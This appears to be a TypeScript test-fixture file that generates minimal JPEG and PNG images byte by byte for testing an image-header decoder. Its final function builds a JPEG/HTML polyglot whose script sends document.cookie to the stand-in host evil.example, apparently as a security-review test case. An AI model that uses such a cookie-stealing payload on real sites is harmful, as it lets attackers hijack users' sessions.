import { crc32, deflateSync } from 'node:zlib';

/**
 * Real, tiny proof images built byte by byte (no binary fixtures): a baseline JPEG of a uniform
 * grey, and a PNG of uniform pixels. Both are complete files a browser decodes; the options make
 * the variants the header decoder (functions/applications/domain/proof-image.ts) must tell apart.
 */

const u16 = (n: number) => [(n >> 8) & 0xff, n & 0xff];
const u32 = (n: number) => [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff];
const ascii = (s: string) => [...s].map((c) => c.charCodeAt(0));
const concat = (...parts: Array<Uint8Array | number[]>) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};

/** A marker segment: FF, the marker, its length (itself included), the payload. */
const segment = (marker: number, payload: number[] | Uint8Array) => concat([0xff, marker, ...u16(payload.length + 2)], payload);

export interface JpegOptions {
  width?: number;
  height?: number;
  /** The frame marker: 0xC0 baseline (default), 0xC2 progressive, 0xC3 lossless, 0xC9 arithmetic… */
  frame?: number;
  precision?: number;
  /** 1 (grey) or 3 (three components, all sampled 1×1). */
  components?: 1 | 3;
  /** Bytes of APPn segments (EXIF-like filler, at most 65,533 a segment) between SOI and the tables. */
  appBytes?: number;
}

/**
 * A complete baseline JPEG: SOI, APP0 JFIF, APP1 filler, DQT, SOFn, DHT, SOS, the scan, EOI. The
 * Huffman tables have one code each ('0': DC difference 0, AC end of block), so every 8×8 block is
 * the two bits `00` and the image is uniform mid-grey.
 */
export function jpegImage({ width = 160, height = 120, frame = 0xc0, precision = 8, components = 1, appBytes = 0 }: JpegOptions = {}): Uint8Array {
  const ids = components === 1 ? [1] : [1, 2, 3];
  const apps: Uint8Array[] = [];
  for (let left = appBytes; left > 0; left -= 65_533) {
    const size = Math.min(left, 65_533);
    apps.push(segment(0xe1, concat(ascii('Exif\0\0'), new Uint8Array(Math.max(0, size - 6)).fill(0x2a)).subarray(0, size)));
  }
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8) * ids.length;
  const bits = blocks * 2; // all zero
  const scan = new Uint8Array(Math.ceil(bits / 8));
  if (bits % 8 !== 0) scan[scan.length - 1] = (1 << (8 - (bits % 8))) - 1; // pad the last byte with 1-bits
  return concat(
    [0xff, 0xd8],
    segment(0xe0, [...ascii('JFIF\0'), 1, 1, 0, ...u16(72), ...u16(72), 0, 0]),
    ...apps,
    segment(0xdb, [0x00, ...new Array<number>(64).fill(1)]),
    segment(frame, [precision, ...u16(height), ...u16(width), ids.length, ...ids.flatMap((id) => [id, 0x11, 0])]),
    segment(0xc4, [0x00, 1, ...new Array<number>(15).fill(0), 0x00]), // DC table 0: one code of length 1, category 0
    segment(0xc4, [0x10, 1, ...new Array<number>(15).fill(0), 0x00]), // AC table 0: one code of length 1, end of block
    segment(0xda, [ids.length, ...ids.flatMap((id) => [id, 0x00]), 0, 63, 0]),
    scan,
    [0xff, 0xd9],
  );
}

/** A PNG chunk: length, type, data, CRC of type and data. */
export function pngChunk(type: string, data: number[] | Uint8Array): Uint8Array {
  const body = concat(ascii(type), data);
  return concat(u32(data.length), body, u32(crc32(body)));
}

export const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];

export interface PngOptions {
  width?: number;
  height?: number;
  /** 0 grey, 2 RGB (default), 3 palette, 4 grey + alpha, 6 RGBA. */
  colour?: 0 | 2 | 3 | 4 | 6;
  depth?: number;
  /** Chunks between IHDR (and PLTE) and IDAT, already built (pngChunk). */
  extra?: Uint8Array[];
}

const CHANNELS: Record<number, number> = { 0: 1, 2: 3, 3: 1, 4: 2, 6: 4 };

/** A complete PNG: signature, IHDR, PLTE for a palette, `extra`, one IDAT of uniform rows, IEND. */
export function pngImage({ width = 160, height = 120, colour = 2, depth = 8, extra = [] }: PngOptions = {}): Uint8Array {
  const rowBytes = Math.ceil((width * (CHANNELS[colour] ?? 1) * depth) / 8);
  const raw = new Uint8Array((rowBytes + 1) * height); // filter 0, then zero samples: black (or palette entry 0)
  return concat(
    PNG_SIGNATURE,
    pngChunk('IHDR', [...u32(width), ...u32(height), depth, colour, 0, 0, 0]),
    ...(colour === 3 ? [pngChunk('PLTE', [0x20, 0x40, 0x80])] : []),
    ...extra,
    pngChunk('IDAT', deflateSync(raw)),
    pngChunk('IEND', []),
  );
}

/** The security review's file: JPEG magic bytes, then an HTML page. */
export function jpegHtmlPolyglot(): Uint8Array {
  return concat([0xff, 0xd8, 0xff], ascii('<html><body><script>fetch("https://evil.example/"+document.cookie)</script></body></html>'.padEnd(600, ' ')));
}
